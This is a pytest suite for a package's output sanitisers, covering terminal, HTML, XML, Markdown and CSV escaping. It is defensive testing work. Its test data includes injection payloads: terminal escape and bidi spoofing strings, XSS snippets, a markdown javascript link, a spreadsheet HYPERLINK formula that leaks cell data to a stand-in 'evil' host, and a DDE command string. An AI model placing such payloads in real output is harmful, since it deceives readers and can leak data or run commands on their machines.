"""Tests for output escaping of vendor-controlled strings (docs/decisions.md, "Output safety")."""

from __future__ import annotations

import csv
import html
import io
import re
import xml.etree.ElementTree as ET

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ocp_check.sanitize import (
    BIDI_CONTROLS,
    csv_cell,
    csv_row,
    fix_surrogates,
    for_terminal,
    html_text,
    markdown_code,
    markdown_text,
    one_line,
    truncate,
    xml_text,
)

HOSTILE = [
    "\x1b[2J\x1b[1;1HALL CHECKS PASSED",
    "\x1b]8;;https://evil\x1b\\innocent\x1b]8;;\x1b\\",
    "\x1b]0;title\x07",
    "overwrite\rPASS",
    "back\x08space",
    "invoice_\u202egnp.exe",
    "\u2066isolate\u2069 \u200e\u200f\u061c",
    "[bold red]x[/]",
    "[link=https://evil]click[/link]",
    "vendor [/] name",
    "<script>alert(1)</script>",
    'x" onmouseover="alert(1)',
    "x' onmouseover='alert(1)",
    "<img src=x onerror=alert(1)>",
    "| x |\n# Approved",
    "[click](javascript:alert(1))",
    "![img](https://evil/x.png)",
    "```",
    '=HYPERLINK("http://evil?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1",
    "\r=1",
    "-2+3",
    "a\x00b",
    "\x0b",
    "\ud800",
    "\udfff tail",
    "\x85next line \x9bCSI",
    "\x7fdel",
    "www.evil.example and https://evil.example and admin@evil.example",
    "$x^2$ :smile: &amp; &#60;b&#62;",
    "* item\n- item\n1. item\n> quote\n---\n===",
    "~~strike~~ **bold** __bold__ _em_",
    "\\",
    "a\\|b",
    "",
]

C0_EXCEPT_NL_TAB = {c for c in range(0x20) if c not in (0x09, 0x0A)}
C1 = set(range(0x80, 0xA0))
FORBIDDEN_ON_TERMINAL = C0_EXCEPT_NL_TAB | C1 | {0x7F} | BIDI_CONTROLS | set(range(0xD800, 0xE000))


def _codes(s: str) -> set[int]:
    return {ord(c) for c in s}


# --- terminal ----------------------------------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE)
def test_for_terminal_hostile(value: str) -> None:
    out = for_terminal(value)
    assert not _codes(out) & FORBIDDEN_ON_TERMINAL


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("\x1b[2J", "\\x1b[2J"),
        ("a\x00b", "a\\x00b"),
        ("\x7f\x85\x9f", "\\x7f\\x85\\x9f"),
        ("overwrite\rPASS", "overwrite\\x0dPASS"),
        ("invoice_\u202egnp.exe", "invoice_\\u202egnp.exe"),
        ("\u2066\u2069\u200e\u200f\u061c", "\\u2066\\u2069\\u200e\\u200f\\u061c"),
        ("\ud800", "\\ud800"),
        ("line one\n\tline two", "line one\n\tline two"),  # kept for snippets
        ("[bold red]x[/]", "[bold red]x[/]"),  # Rich markup is the caller's business (Text)
        ("[link=https://evil]click[/link]", "[link=https://evil]click[/link]"),
        ("Ünïcödé ✓ 日本語 😀 \u00a0", "Ünïcödé ✓ 日本語 😀 \u00a0"),
    ],
)
def test_for_terminal_exact(value: str, expected: str) -> None:
    assert for_terminal(value) == expected


def test_for_terminal_output_is_inert_in_rich() -> None:
    rich = pytest.importorskip("rich")
    from rich.console import Console
    from rich.text import Text

    assert rich
    buffer = io.StringIO()
    console = Console(file=buffer, force_terminal=False, width=200, color_system=None)
    console.print(Text(for_terminal("\x1b]8;;https://evil\x1b\\innocent\x1b]8;;\x1b\\")))
    assert "\x1b" not in buffer.getvalue()
    assert "\\x1b]8;;https://evil" in buffer.getvalue()


@settings(max_examples=300)
@given(st.text())
def test_for_terminal_never_emits_controls(value: str) -> None:
    out = for_terminal(value)
    assert not _codes(out) & FORBIDDEN_ON_TERMINAL
    out.encode("utf-8")  # never raises


@settings(max_examples=200)
@given(st.text(alphabet=st.characters(codec="utf-8", exclude_categories=["Cc", "Cf"])))
def test_for_terminal_keeps_ordinary_text(value: str) -> None:
    assert for_terminal(value) == value


def test_one_line() -> None:
    assert one_line("| x |\n# Approved") == "| x |\\n# Approved"
    assert one_line("a\tb\r\x1b") == "a\\tb\\x0d\\x1b"
    assert one_line("x" * 200) == "x" * 200
    assert one_line("x" * 201) == "x" * 199 + "…"
    assert one_line("abc", limit=3) == "abc"
    assert one_line("abcd", limit=3) == "ab…"


def test_one_line_never_splits_an_escape() -> None:
    out = one_line("ab\x1bcdef", limit=5)
    assert out == "ab…"
    assert one_line("ab\x1bcdef", limit=7) == "ab\\x1b…"


@settings(max_examples=300)
@given(st.text(), st.integers(1, 50))
def test_one_line_properties(value: str, limit: int) -> None:
    out = one_line(value, limit)
    assert len(out) <= limit
    assert "\n" not in out
    assert "\t" not in out
    assert not _codes(out) & FORBIDDEN_ON_TERMINAL


def test_truncate() -> None:
    assert truncate("hello", 5) == "hello"
    assert truncate("hello!", 5) == "hell…"
    assert truncate("hello", 1) == "…"
    with pytest.raises(ValueError, match="limit"):
        truncate("x", 0)


# --- HTML --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"),
        ('x" onmouseover="alert(1)', "x&quot; onmouseover=&quot;alert(1)"),
        ("x' onmouseover='alert(1)", "x&#x27; onmouseover=&#x27;alert(1)"),
        ("a & b", "a &amp; b"),
        ("a\x00b\x1b\x7f\x85", "a\ufffdb\ufffd\ufffd\ufffd"),
        ("\ud800", "\ufffd"),
        ("\ufdd0\U0010ffff", "\ufffd\ufffd"),
        ("invoice_\u202egnp.exe", "invoice_\\u202egnp.exe"),
        ("tab\tnl\ncr\r", "tab\tnl\ncr\r"),
        ("日本語 😀", "日本語 😀"),
    ],
)
def test_html_text(value: str, expected: str) -> None:
    assert html_text(value) == expected


@settings(max_examples=300)
@given(st.text())
def test_html_text_properties(value: str) -> None:
    out = html_text(value)
    assert "<" not in out
    assert ">" not in out
    assert '"' not in out
    assert "'" not in out
    assert not _codes(out) & (C0_EXCEPT_NL_TAB - {0x0D} | C1 | BIDI_CONTROLS)
    out.encode("utf-8")
    # Every "&" starts one of the entities html.escape writes.
    assert re.fullmatch(r"(?:[^&]|&(?:amp|lt|gt|quot|#x27);)*", out, flags=re.DOTALL)
    assert "\ufffd" in out or "\\u" in out or html.unescape(out) == value


# --- XML ---------------------------------------------------------------------------------------


def _roundtrip(value: str) -> str | None:
    element = ET.Element("failure", message=xml_text(value))
    element.text = xml_text(value)
    data = ET.tostring(element, encoding="utf-8")
    parsed = ET.fromstring(data)
    assert parsed.get("message") == xml_text(value)
    return parsed.text


@pytest.mark.parametrize("value", ["a\x00b", "\x0b", "\x1b[2J", "\ud800", *HOSTILE])
def test_xml_text_reparses(value: str) -> None:
    assert (_roundtrip(value) or "") == xml_text(value)


def test_xml_text_raw_etree_is_broken_without_it() -> None:
    """The reason the function exists: ElementTree writes these as they are."""
    element = ET.Element("x")
    element.text = "a\x00b"
    with pytest.raises(ET.ParseError):
        ET.fromstring(ET.tostring(element))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("a\x00b", "a\ufffdb"),
        ("\x0b\x1b[2J", "\ufffd\ufffd[2J"),
        ("\ud800", "\ufffd"),
        ("\ufffe\uffff", "\ufffd\ufffd"),
        ("<a & b>", "<a & b>"),  # the serialiser escapes these
        ("\x85 \u202e 😀 \ue000", "\x85 \u202e 😀 \ue000"),  # allowed in XML 1.0
        ("a\r\nb\rc\n", "a\nb\nc\n"),
        ("\t", "\t"),
    ],
)
def test_xml_text(value: str, expected: str) -> None:
    assert xml_text(value) == expected


@settings(max_examples=300)
@given(st.text())
def test_xml_text_always_reparses_to_the_same_string(value: str) -> None:
    assert (_roundtrip(value) or "") == xml_text(value)


# --- Markdown ----------------------------------------------------------------------------------


def _markdown() -> object:
    markdown_it = pytest.importorskip("markdown_it")
    return markdown_it.MarkdownIt("commonmark").enable("table").enable("strikethrough")


def _render(source: str) -> str:
    md = _markdown()
    result = md.render(source)  # type: ignore[attr-defined]
    assert isinstance(result, str)
    return result


def _visible(value: str) -> str:
    """What a reader should see: line breaks as spaces, controls and bidi marks as escapes."""
    return for_terminal(re.sub("\r\n|[\r\n\t]", " ", value))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("| x |\n# Approved", "\\| x \\| \\# Approved"),
        ("[click](javascript:alert(1))", "\\[click\\]\\(javascript\\:alert\\(1\\)\\)"),
        ("```", "\\`\\`\\`"),
        ("<img src=x>", "\\<img src\\=x\\>"),
        ("a_b*c~d", "a\\_b\\*c\\~d"),
        ("1. item", "1\\. item"),
        ("plain words", "plain words"),
        ("\\", "\\\\"),
        ("invoice_\u202egnp", "invoice\\_\\\\u202egnp"),
    ],
)
def test_markdown_text(value: str, expected: str) -> None:
    assert markdown_text(value) == expected


@pytest.mark.parametrize("value", HOSTILE)
def test_markdown_text_renders_literally_in_a_table_cell(value: str) -> None:
    rendered = _render(f"| value |\n| --- |\n| {markdown_text(value)} |\n")
    cells = re.findall(r"<td>(.*?)</td>", rendered, flags=re.DOTALL)
    assert len(cells) == 1, rendered
    for tag in ("<a", "<img", "<h1", "<script", "<em", "<strong", "<code", "<s>", "<del"):
        assert tag not in rendered
    shown = html.unescape(cells[0])
    assert shown == _visible(value).strip(" ")


@pytest.mark.parametrize("value", HOSTILE)
def test_markdown_text_renders_literally_in_a_paragraph(value: str) -> None:
    rendered = _render(f"Value: {markdown_text(value)}\n")
    assert rendered.startswith("<p>")
    assert rendered.count("<") == 2  # <p> and </p> only
    shown = html.unescape(rendered.removeprefix("<p>").removesuffix("</p>\n"))
    assert shown == f"Value: {_visible(value)}".rstrip(" ")


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.characters(codec="utf-8", max_codepoint=0x7F)))
def test_markdown_text_property(value: str) -> None:
    rendered = _render(f"| v |\n| --- |\n| {markdown_text(value)} |\n")
    cells = re.findall(r"<td>(.*?)</td>", rendered, flags=re.DOTALL)
    assert len(cells) == 1
    assert html.unescape(cells[0]) == _visible(value).strip(" \x0c")


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("abc", "`abc`"),
        ("a`b", "``a`b``"),
        ("```", "```` ``` ````"),
        ("`a", "`` `a ``"),
        (" a ", "`  a  `"),
        ("   ", "`   `"),
        ("", "` `"),
        ("a|b", "`a\\|b`"),
        ("line\nbreak", "`line break`"),
        ("\u202eevil", "`\\u202eevil`"),
        ("a`", "`` a` ``"),
        ("aX", "`aX`"),  # padding only for a backtick or a space at either end
        ("Xa ", "` Xa  `"),
    ],
)
def test_markdown_code(value: str, expected: str) -> None:
    assert markdown_code(value) == expected


def test_markdown_code_outside_tables() -> None:
    assert markdown_code("a|b", in_table=False) == "`a|b`"


@pytest.mark.parametrize("value", [v for v in HOSTILE if v.strip(" ")])
def test_markdown_code_renders_the_value(value: str) -> None:
    rendered = _render(f"Value: {markdown_code(value, in_table=False)}\n")
    match = re.fullmatch(r"<p>Value: <code>(.*)</code></p>\n", rendered, flags=re.DOTALL)
    assert match, rendered
    assert html.unescape(match.group(1)) == _visible(value)


@pytest.mark.parametrize("value", ["a|b", "| x |\n# Approved", "```|", "\\|"])
def test_markdown_code_in_a_table_cell(value: str) -> None:
    rendered = _render(f"| v |\n| --- |\n| {markdown_code(value)} |\n")
    cells = re.findall(r"<td>(.*?)</td>", rendered, flags=re.DOTALL)
    assert len(cells) == 1, rendered
    code = re.fullmatch(r"<code>(.*)</code>", cells[0], flags=re.DOTALL)
    assert code, rendered
    assert html.unescape(code.group(1)) == _visible(value)


@settings(max_examples=300)
@given(st.text(alphabet=st.sampled_from("`a \n|\\")))
def test_markdown_code_property(value: str) -> None:
    if not value.strip(" \n"):
        return
    rendered = _render(f"x {markdown_code(value, in_table=False)}\n")
    match = re.fullmatch(r"<p>x <code>(.*)</code></p>\n", rendered, flags=re.DOTALL)
    assert match, rendered
    assert html.unescape(match.group(1)) == value.replace("\n", " ")


# --- CSV ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://evil?"&A1,"x")', '\'=HYPERLINK("http://evil?"&A1,"x")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("-2+3", "'-2+3"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("plain", "plain"),
        ("a=b", "a=b"),
        ("", ""),
        ("\ud800", "\ufffd"),
        # a formula hidden behind blanks, line breaks or invisible characters
        (" =1+2", "' =1+2"),
        ("   @SUM(A1)", "'   @SUM(A1)"),
        ("\n=1", "'\n=1"),
        ("\r\n+1", "'\r\n+1"),
        ("\u00a0=1", "'\u00a0=1"),
        ("\ufeff=1", "'\ufeff=1"),
        ("\u200b-1", "'\u200b-1"),
        ("\x00=1", "\ufffd=1"),  # NUL becomes visible: no formula starts with it
        ("a\x00b", "a\ufffdb"),
        ("  plain", "  plain"),
    ],
)
def test_csv_cell(value: str, expected: str) -> None:
    assert csv_cell(value) == expected


def _formula_like(cell: str) -> bool:
    """What a spreadsheet could take for a formula once it trims blanks and invisibles."""
    import unicodedata

    for ch in cell:
        if ch.isspace() or unicodedata.category(ch) in ("Cc", "Cf"):
            continue
        return ch in "=+-@"
    return False


@settings(max_examples=400)
@given(st.lists(st.text(), min_size=1, max_size=4))
def test_csv_rows_keep_their_fields_and_never_hold_a_live_formula(values: list[str]) -> None:
    """Every field with a CR or LF is quoted, so a row never splits; no cell can be a formula."""
    cells = [csv_cell(v) for v in values]
    text = csv_row([*cells, "end"]) + csv_row(["next", "row"])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [[*cells, "end"], ["next", "row"]]
    assert not any(_formula_like(c) and not c.startswith("'") for c in cells)


@settings(max_examples=300)
@given(st.text())
def test_csv_cell_never_starts_with_a_trigger(value: str) -> None:
    out = csv_cell(value)
    assert not out.startswith(("=", "+", "-", "@", "\t", "\r"))
    buffer = io.StringIO()
    csv.writer(buffer).writerow([out, "x"])
    buffer.getvalue().encode("utf-8")
    assert next(csv.reader(io.StringIO(buffer.getvalue(), newline="")))[0] == out


def test_fix_surrogates() -> None:
    assert fix_surrogates("ok 😀") == "ok 😀"
    assert fix_surrogates("a\ud800b\udfff") == "a\ufffdb\ufffd"
